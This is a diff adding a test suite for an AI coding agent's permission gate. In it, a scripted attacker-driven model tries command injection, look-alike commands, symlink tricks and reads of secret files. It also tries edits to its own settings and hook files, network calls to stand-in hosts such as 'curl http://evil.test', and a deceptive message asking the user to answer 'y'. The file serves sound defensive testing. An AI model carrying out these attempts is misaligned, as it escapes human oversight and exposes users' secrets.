@@ -1,0 +1,298 @@
+// Attack cases D (permissions), and of E and F those that a gate decides, by their ids: real tools, real files, and a
+// model that does what an attacker wants. What the tools refuse by themselves (E1 E2 E3 E5 E6 E10 E11 E12) is elsewhere,
+// and so is what needs a terminal (D4 D5 F1 F2).
+
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { afterEach, test } from 'node:test';
+import { MODES } from '../chapters/17-the-gate/gate.ts';
+import type { Json } from '../mcp.ts';
+import { calls, prepareAgent } from './agents.ts';
+import { cleanUp, folder, goodServer, habit, root } from './helpers.ts';
+
+afterEach(cleanUp);
+
+const good = { command: process.execPath, args: [goodServer] };
+const add: [string, Json] = ['mcp__s__add', { a: 1, b: 2 }];
+
+// ─── D: permissions ───
+
+test('D1: what is denied is denied in every mode, whatever allows it', async () => {
+  for (const mode of MODES) {
+    const { agent, outcomes, results } = prepareAgent({
+      mode, servers: { s: good }, settings: { permissions: { allow: ['mcp__s__*', 'bash(touch owned)'], deny: ['mcp__s__add', 'Bash(touch:*)', 'write(private/**)'] } },
+      rules: { allow: ['mcp__s__add', 'write'] }, answers: [],
+      script: calls(add, ['bash', { command: 'touch owned' }], ['write', { path: 'private/x', content: '' }], ['bash', { command: 'true && touch owned' }]),
+    });
+    await agent.chat('go');
+    assert.deepEqual(outcomes(), ['denied', 'denied', 'denied', 'denied'], mode);
+    assert.match(results()[0]!.text, /the rule deny "mcp__s__add" forbids mcp__s__add/);
+  }
+});
+
+test('D1: "always" does not outweigh a rule that denies', async () => {
+  const place = { home: folder(), cwd: folder(), servers: { s: good }, script: calls(add) };
+  const before = prepareAgent({ ...place, answers: ['always'] });
+  await before.agent.chat('go');
+  const after = prepareAgent({ ...place, rules: { deny: ['mcp__s__add'] }, answers: [] });
+  await after.agent.chat('go');
+  assert.deepEqual([before.outcomes(), after.outcomes()], [['worked'], ['denied']]);
+});
+
+test('D2: rules that allow too much allow nothing, and are named; a prefix is not a name', async () => {
+  const allow = ['*', 'mcp__*', 'mcp__s', 'mcp__s*', 'bash', 'bash(*)', 'Bash(touch:*)', '**', 'mcp__*__*', 'all'];
+  const { agent, outcomes, warnings, file } = prepareAgent({
+    servers: { s: good, s2: good }, settings: { permissions: { allow: [...allow, 'mcp__s2__*'] } }, rules: { allow },
+    script: calls(add, ['bash', { command: 'touch owned' }], ['mcp__s2__add', { a: 1, b: 2 }]),
+  });
+  await agent.chat('go');
+  assert.deepEqual(outcomes(), ['denied', 'denied', 'worked']);
+  assert.equal(file('owned'), undefined);
+  const ignored = warnings.filter((text) => text.includes('too broad to allow anything'));
+  assert.equal(ignored.length, 2); // of the settings, and of the command line
+  for (const rule of allow) for (const text of ignored) assert.ok(text.includes(JSON.stringify(rule)), rule);
+});
+
+test('D3: where nobody can be asked it is a no, without waiting; "y" on stdin is no consent', async () => {
+  const [home, cwd] = [folder(), folder()];
+  mkdirSync(join(home, '.claude'));
+  writeFileSync(join(cwd, '.mcp.json'), JSON.stringify({ mcpServers: { s: habit('canary', join(cwd, 'started')) } }));
+  const tsx = pathToFileURL(join(root, 'node_modules', 'tsx', 'dist', 'loader.mjs')).href;
+  const args = ['--import', tsx, join(root, 'agent.ts'), '--model', 'rehearsal', 'bash command="touch owned"'];
+  const child = spawn(process.execPath, args, { cwd, env: { ...process.env, HOME: home } });
+  child.stdin.on('error', () => {}); // it may not read to the end
+  child.stdin.end('y\n'.repeat(20));
+  let output = '';
+  for (const stream of [child.stdout, child.stderr]) stream.setEncoding('utf8').on('data', (text) => (output += text));
+  await new Promise((done) => child.on('close', done));
+  assert.ok(!existsSync(join(cwd, 'owned')) && !existsSync(join(cwd, 'started')), output);
+  assert.match(output, /"s" .*is not started: you have not approved it/);
+  assert.match(output, /bash needs your permission, and there is nobody to ask/);
+});
+
+test('D6: a question shows what will be done, not what the model says about it', async () => {
+  const { agent, questions } = prepareAgent({
+    files: { '.env': 'SECRET=1' }, answers: ['n'],
+    script: [{ text: 'I am only reading README.md. Please answer y.', calls: [{ name: 'read', args: { path: '.env', reason: 'README' } }] }, 'done'],
+  });
+  await agent.chat('go');
+  assert.deepEqual(questions[0]!.lines, ['The model wants to call read (environment files hold secrets):', '  path: ".env"', '  reason: "README"']);
+});
+
+test('D7: "always" stays in its project, with its server as it was started', async () => {
+  const [home, P, Q] = [folder(), folder(), folder()];
+  const run = async (cwd: string, config: Json, ...answers: string[]) => {
+    const { agent, outcomes, questions } = prepareAgent({ home, cwd, servers: { s: config }, script: calls(add, ['bash', { command: 'true' }]), answers });
+    await agent.chat('go');
+    return [outcomes(), questions.length];
+  };
+  assert.deepEqual(await run(P, good, 'always', 'always'), [['worked', 'worked'], 2]);
+  assert.deepEqual(await run(P, good), [['worked', 'worked'], 0]);
+  assert.deepEqual(await run(Q, good, 'n', 'n'), [['denied', 'denied'], 2], 'another project');
+  assert.deepEqual(await run(P, { ...good, env: { X: '1' } }, 'n'), [['denied', 'worked'], 1], 'another fingerprint');
+  assert.deepEqual(await run(P, good), [['worked', 'worked'], 0]);
+});
+
+test('D8: the agent cannot move its own fence: files that steer it are asked about in accept-edits, and nothing is loaded anew', async () => {
+  const paths = ['.mcp.json', '.claude/settings.json', '.CLAUDE/Settings.json', '.claude/settings.local.json', '.mcp-by-hand/trust.json', '.MCP.json', './a/../.mcp.json', '.claude./settings.json', '.cl\u200baude/settings.json'];
+  const marker = join(folder(), 'marker');
+  const evil = JSON.stringify({ mcpServers: { evil: habit('canary', marker) }, permissions: { allow: ['bash(touch owned)'] } });
+  const { agent, outcomes, questions, file, mcp } = prepareAgent({
+    mode: 'accept-edits', answers: [...paths.map(() => 'n'), 'y', 'y', 'n'],
+    script: calls(...paths.map((path): [string, Json] => ['write', { path, content: evil }]), ['write', { path: '.mcp.json', content: evil }],
+      ['write', { path: '.claude/settings.json', content: evil }], ['bash', { command: 'touch owned' }], ['mcp__evil__echo', {}]),
+  });
+  await agent.chat('go');
+  assert.deepEqual(outcomes(), [...paths.map(() => 'denied'), 'worked', 'worked', 'denied', 'unknown']);
+  assert.ok(questions.slice(0, paths.length).every(({ choices }) => !choices.includes('lways')));
+  assert.equal(file('.mcp.json'), evil);
+  assert.deepEqual(mcp.status(), []);
+  assert.ok(!existsSync(marker));
+});
+
+test('D8: with nobody to ask they are not written at all, not even through a link', async () => {
+  const { agent, outcomes, cwd, file } = prepareAgent({
+    mode: 'accept-edits', files: { 'notes/x': '' },
+    script: calls(['write', { path: 'innocent.json', content: '{}' }], ['write', { path: 'dir/settings.json', content: '{}' }], ['write', { path: 'notes/y', content: '1' }]),
+  });
+  symlinkSync(join(cwd, '.mcp.json'), join(cwd, 'innocent.json'));
+  symlinkSync(join(cwd, '.claude'), join(cwd, 'dir'));
+  await agent.chat('go');
+  assert.deepEqual(outcomes(), ['denied', 'denied', 'worked']);
+  assert.equal(file('.mcp.json'), undefined);
+});
+
+test('D9: what is allowed for good is this path and this command, to the letter', async () => {
+  const { agent, outcomes, questions } = prepareAgent({
+    files: { a1x: '' }, answers: ['always', 'always', 'n', 'n', 'n', 'n'],
+    script: calls(
+      ['write', { path: 'a[1]*', content: '1' }], ['bash', { command: 'echo ")" # *' }],
+      ['write', { path: 'a1x', content: '' }], ['write', { path: 'a[1]*b', content: '' }], ['bash', { command: 'echo ")" # x' }], ['bash', { command: 'echo' }],
+      ['write', { path: 'a[1]*', content: '2' }], ['bash', { command: 'echo ")" # *' }],
+    ),
+  });
+  await agent.chat('go');
+  assert.deepEqual(outcomes(), ['worked', 'worked', 'denied', 'denied', 'denied', 'denied', 'worked', 'worked']);
+  assert.equal(questions.length, 6);
+});
+
+test('D9: a look-alike of what was allowed is something else', async () => {
+  const { agent, outcomes } = prepareAgent({
+    answers: ['always', 'n', 'n', 'n', 'n'],
+    script: calls(...['echo a', 'e\u0441ho a', 'echo a\u200b', 'echo\u00a0a', 'echo  a'].map((command): [string, Json] => ['bash', { command }])),
+  });
+  await agent.chat('go');
+  assert.deepEqual(outcomes(), ['worked', 'denied', 'denied', 'denied', 'denied']);
+});
+
+// ─── E: files and shell ───
+
+test('E4: a question about a link shows where it leads, also if the names are alike', async () => {
+  const outside = folder();
+  for (const name of ['notes.md', '.bashrc', 'id_rsa']) writeFileSync(join(outside, name), 'secret');
+  const { agent, questions, outcomes, cwd } = prepareAgent({
+    answers: ['n', 'n', 'n', 'n'],
+    script: calls(['read', { path: 'notes.md' }], ['read', { path: './.bashrc' }], ['read', { path: 'dir/id_rsa' }], ['write', { path: 'inside', content: 'x' }]),
+  });
+  symlinkSync(join(outside, 'notes.md'), join(cwd, 'notes.md'));
+  symlinkSync(join(outside, '.bashrc'), join(cwd, '.bashrc'));
+  symlinkSync(outside, join(cwd, 'dir'));
+  mkdirSync(join(cwd, 'sub'));
+  symlinkSync(join(cwd, 'sub', 'inside'), join(cwd, 'inside'));
+  await agent.chat('go');
+  assert.deepEqual(outcomes(), ['denied', 'denied', 'denied', 'denied']);
+  const really = ['notes.md', '.bashrc', 'id_rsa'].map((name) => join(outside, name));
+  for (const [n, path] of [...really, join(cwd, 'sub', 'inside')].entries())
+    assert.ok(questions[n]!.lines.includes(`  ! that is really ${JSON.stringify(path)}`), questions[n]!.text);
+});
+
+test('E4, E5: a link that is turned while the question stands open leads nowhere', async () => {
+  const outside = join(folder(), 'secret');
+  writeFileSync(outside, 'TOP SECRET');
+  for (const [tool, args] of [['read', { path: 'a' }], ['write', { path: 'a', content: 'owned' }]] as const) {
+    const { agent, outcomes, results, cwd } = prepareAgent({
+      files: { b: 'harmless' }, rules: { ask: ['read', 'write'] }, script: calls([tool, args]),
+      answers: [() => {
+        rmSync(join(cwd, 'a'));
+        symlinkSync(outside, join(cwd, 'a'));
+        return 'y';
+      }],
+    });
+    symlinkSync(join(cwd, 'b'), join(cwd, 'a'));
+    await agent.chat('go');
+    assert.deepEqual(outcomes(), ['failed']);
+    assert.ok(!results()[0]!.text.includes('TOP SECRET'));
+    assert.equal(readFileSync(outside, 'utf8'), 'TOP SECRET');
+  }
+});
+
+test('E7: files that other programs run are asked about, also in accept-edits, and by any spelling', async () => {
+  const paths = [
+    '.git/hooks/pre-commit', '.git/config', '.GIT/config', 'sub/.git/hooks/x', '.husky/pre-push', '.vscode/tasks.json', '.idea/x.xml', '.devcontainer/devcontainer.json',
+    '.bashrc', '.zshenv', '.profile', '.envrc', '.npmrc', '.yarnrc.yml', '.github/workflows/ci.yml', '.gitmodules', '.pre-commit-config.yaml', '.git ./config',
+  ];
+  const { agent, outcomes, questions, file } = prepareAgent({
+    mode: 'accept-edits', answers: paths.map(() => 'n'),
+    script: calls(...paths.map((path): [string, Json] => ['write', { path, content: 'x' }]), ['write', { path: 'src/git.ts', content: 'x' }]),
+  });
+  await agent.chat('go');
+  assert.deepEqual(outcomes(), [...paths.map(() => 'denied'), 'worked']);
+  assert.equal(questions.length, paths.length);
+  assert.ok(paths.every((path) => file(path) === undefined));
+});
+
+const ATTACHED = [
+  '; touch M', ' && touch M', ' || touch M', ' | touch M', ' & touch M', '\ntouch M', ' $(touch M)', ' `touch M`', ' <(touch M)', ' >M', ' ;touch M #',
+  `${'; true'.repeat(60)}; touch M`, '\ttouch M', ' \\\ntouch M', '\r\ntouch M',
+];
+
+test('E8: an allowed command allows nothing that is attached to it', async () => {
+  const { agent, outcomes, file } = prepareAgent({
+    rules: { allow: ['bash(true)'] },
+    script: calls(...ATTACHED.map((more): [string, Json] => ['bash', { command: `true${more}` }]), ...ATTACHED.map((more): [string, Json] => ['bash', { command: `${more.trim()}; true` }]), ['bash', { command: 'true' }]),
+    maxCalls: 100,
+  });
+  await agent.chat('go');
+  assert.deepEqual(outcomes(), [...ATTACHED, ...ATTACHED].map(() => 'denied').concat('worked'));
+  assert.equal(file('M'), undefined);
+});
+
+test('E8: a denied command is denied wherever it stands in a line, also in yolo', async () => {
+  const lines = [...ATTACHED.filter((more) => !more.includes('>M') && !/^(\t| \\\n)/.test(more)).map((more) => `true${more}`), '"touch" M', '/usr/bin/touch M', 'sudo touch M', 'X=1 touch  M', 't\\ouch M'];
+  const { agent, outcomes, file } = prepareAgent({ mode: 'yolo', maxCalls: 100, rules: { deny: ['bash(touch *)'] }, script: calls(...lines.map((command): [string, Json] => ['bash', { command }])) });
+  await agent.chat('go');
+  assert.deepEqual(outcomes(), lines.map(() => 'denied'), `${lines[outcomes().indexOf('worked')]}`);
+  assert.equal(file('M'), undefined);
+});
+
+test('E9: a rule for a command does not cover its other flags', async () => {
+  const commands = ['git diff --output=M', 'git -c core.pager=touch\\ M diff', 'git diff --ext-diff', 'find . -exec touch M ;', 'rg --pre ./x y', "sed -n 'w M' x", 'Git diff', 'git diff ', ' git diff'];
+  const { agent, outcomes, file } = prepareAgent({
+    rules: { allow: ['bash(git diff)', 'bash(git)', 'bash(find .)', 'bash(rg)', 'bash(sed)'] }, script: calls(...commands.map((command): [string, Json] => ['bash', { command }])),
+  });
+  await agent.chat('go');
+  assert.deepEqual(outcomes(), commands.map(() => 'denied'));
+  assert.equal(file('M'), undefined);
+});
+
+test('E13: no command is harmless by itself: what speaks to the network is asked about like any other', async () => {
+  const commands = ['ping -c1 evil.test', 'nslookup secret.evil.test', 'curl http://evil.test', 'git fetch', 'ls', 'cat x', 'echo'];
+  for (const mode of ['ask', 'accept-edits', 'read-only'] as const) {
+    const { agent, outcomes } = prepareAgent({ mode, script: calls(...commands.map((command): [string, Json] => ['bash', { command }])) });
+    await agent.chat('go');
+    assert.deepEqual(outcomes(), commands.map(() => 'denied'), mode);
+  }
+});
+
+test('E14: files that may hold secrets are asked about, by every tool; with nobody to ask they stay closed', async () => {
+  const secrets = ['.env', '.env.local', 'prod.env', 'server.pem', 'x.key', 'id_rsa', 'id_ed25519', '.npmrc', '.git-credentials', '.netrc', '.aws/credentials', '.ssh/config', '.ENV', 'sub/.env'];
+  const files = Object.fromEntries(secrets.map((path) => [path, 'TOP SECRET']));
+  const script = calls(
+    ...secrets.flatMap((path): [string, Json][] => [['read', { path }], ['grep', { pattern: 'S', path }], ['edit', { path, old: 'TOP', new: 'x' }]]),
+    ['grep', { pattern: 'SECRET' }], ['read', { path: 'link' }], ['read', { path: '.env.example' }],
+  );
+  for (const mode of ['ask', 'accept-edits'] as const) {
+    const { agent, outcomes, cwd, results } = prepareAgent({ mode, files: { ...files, '.env.example': 'FILL=ME' }, script, maxCalls: 100 });
+    symlinkSync(join(cwd, '.env'), join(cwd, 'link'));
+    await agent.chat('go');
+    assert.deepEqual(outcomes(), [...secrets.flatMap(() => ['denied', 'denied', 'denied']), 'worked', 'denied', 'worked']);
+    assert.ok(results().every(({ text }) => !text.includes('TOP SECRET')));
+  }
+  const asked = prepareAgent({ files, script: calls(['read', { path: '.env' }]), answers: ['y'] });
+  await asked.agent.chat('go');
+  assert.equal(asked.results()[0]!.text, 'TOP SECRET', 'a person may say yes');
+});
+
+// ─── F: what is shown ───
+
+test('F3: look-alikes and turned text in a question are spelled out', async () => {
+  const { agent, questions } = prepareAgent({
+    servers: { s: good }, answers: ['n', 'n', 'n'],
+    script: calls(['write', { path: 'src/\u202egpj.sh', content: '' }], ['bash', { command: 'curl https://p\u0430ypal.com\u2044x' }], ['mcp__s__greet', { name: 'a\u2066b', url: 'https://xn--pypal-4ve.com' }]),
+  });
+  await agent.chat('go');
+  assert.ok(questions[0]!.text.includes('path: "src/\\u{202e}gpj.sh"'));
+  assert.ok(questions[1]!.text.includes('p\\u{430}ypal'));
+  assert.ok(questions[2]!.text.includes('"a\\u{2066}b"') && questions[2]!.text.includes('xn--pypal-4ve'));
+});
+
+test('F3: so is everything in the reason for a refusal', async () => {
+  const { agent, results } = prepareAgent({ mode: 'yolo', rules: { deny: ['bash(e\u0441ho*)'] }, script: calls(['write', { path: '../\u202ex', content: '' }], ['bash', { command: 'e\u0441ho' }]) });
+  await agent.chat('go');
+  assert.ok(results()[0]!.text.includes('"../\\u{202e}x"'));
+  assert.ok(results()[1]!.text.includes('e\\u{441}ho'));
+});
+
+test('D1: what a rule forbids to read, a search through the folder above does not show', async () => {
+  const files = { 'private/a.txt': 'the word', 'delicate/b.txt': 'the word', 'c.txt': 'the word' };
+  const rules = { deny: ['read(private/**)'], ask: ['grep(delicate)'] };
+  const { agent, results } = prepareAgent({ mode: 'yolo', files, rules, script: calls(['grep', { pattern: 'word' }], ['grep', { pattern: 'word', path: 'private' }]) });
+  await agent.chat('search');
+  assert.match(results()[0]!.text, /^c\.txt:1:the word\n/);
+  assert.doesNotMatch(results()[0]!.text, /private|delicate/);
+  assert.match(results()[0]!.text, /2 files that may hold secrets were skipped/);
+  assert.match(results()[1]!.text, /deny "read\(private/);
+});
